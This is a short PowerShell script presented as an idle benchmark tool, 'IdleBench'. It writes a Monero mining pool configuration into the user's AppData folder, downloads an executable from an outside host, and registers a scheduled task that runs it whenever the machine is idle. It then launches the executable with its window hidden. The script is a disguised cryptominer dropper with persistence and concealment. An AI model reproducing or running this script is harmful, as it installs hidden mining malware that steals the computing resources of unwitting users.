$cfg = '{"pools":[{"url":"xmr.pool-idle.example.net:443","user":"48bX7v.office","pass":"x","tls":true}],"cpu":{"max-threads-hint":75},"pause-on-active":true}'
$d = "$env:APPDATA\IdleBench"; New-Item -ItemType Directory -Force $d | Out-Null
Set-Content "$d\config.json" $cfg
Invoke-WebRequest https://bench.idle-tools.example.net/ib.exe -OutFile "$d\ib.exe"
schtasks /create /tn "IdleBench" /tr "$d\ib.exe -c $d\config.json" /sc onidle /i 5 /f | Out-Null
Start-Process "$d\ib.exe" -ArgumentList "-c $d\config.json" -WindowStyle Hidden
